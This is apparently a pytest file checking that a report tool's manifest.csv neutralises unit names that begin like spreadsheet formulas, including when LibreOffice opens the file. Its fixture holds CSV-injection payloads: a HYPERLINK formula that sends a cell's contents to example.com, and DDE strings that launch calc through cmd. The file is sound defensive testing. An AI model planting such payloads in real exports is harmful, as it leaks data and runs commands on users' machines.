"""Unit names that are spreadsheet formulas stay text in manifest.csv, also when LibreOffice
opens it with formulas evaluated (as a person double-clicking the file would)."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from batch_helpers import SAMPLES

from reportkit.batch.manifest import inert_cell
from reportkit.pdf import find_soffice

from .batch_processes import assert_no_traceback, run_batch_cli
from .conftest import tree_hashes

HOSTILE_NAMES = {
    "khu-vuc-01.yaml": '=HYPERLINK("http://example.com/?leak="&A1,"bấm vào đây")',
    "khu-vuc-02.yaml": "+1+cmd|' /C calc'!A0",
    "khu-vuc-03.yaml": "-2+3",
    "khu-vuc-04.yaml": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# separator, quote, UTF-8, from line 1, ..., evaluate formulas (token 13)
CSV_FILTER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


@pytest.fixture
def manifest_csv(tmp_path: Path) -> Path:
    """manifest.csv of a batch whose units are named with formulas."""
    inputs, out = tmp_path / "in", tmp_path / "out"
    shutil.copytree(SAMPLES, inputs)
    for file, name in HOSTILE_NAMES.items():
        path = inputs / file
        text = path.read_text(encoding="utf-8")
        short = next(line for line in text.splitlines() if line.startswith("  short_name:"))
        quoted = json.dumps(name, ensure_ascii=False)  # a JSON string is a YAML string too
        path.write_text(text.replace(short, f"  short_name: {quoted}"), encoding="utf-8")
    before = tree_hashes(inputs)
    run = run_batch_cli(inputs, out)
    assert run.returncode == 0, str(run)
    assert_no_traceback(run)
    assert tree_hashes(inputs) == before
    return out / "manifest.csv"


def _unit_column(rows: list[list]) -> list:
    column = rows[0].index("unit")
    return [row[column] for row in rows[1:]]


def test_no_cell_starts_a_formula(manifest_csv):
    with manifest_csv.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = _unit_column(rows)
    for name in HOSTILE_NAMES.values():
        assert f"'{name}" in names  # the name itself, marked as text


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    assert inert_cell(value) == f"'{value}"


@pytest.mark.libreoffice
def test_libreoffice_opens_the_names_as_text(manifest_csv, tmp_path):
    profile = (tmp_path / "profile").as_uri()
    command = [find_soffice(), f"-env:UserInstallation={profile}", "--headless"]
    subprocess.run(
        [*command, f"--infilter={CSV_FILTER}", "--convert-to", "xlsx", str(manifest_csv)],
        cwd=tmp_path,
        check=True,
        capture_output=True,
        timeout=180,
    )
    sheet = openpyxl.load_workbook(tmp_path / "manifest.xlsx").active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    header = [cell.value for cell in rows[0]]
    cells = _unit_column([header, *rows[1:]])
    assert all(cell.data_type != "f" for row in rows for cell in row)
    shown = {cell.value for cell in cells}
    for name in HOSTILE_NAMES.values():
        assert f"'{name}" in shown
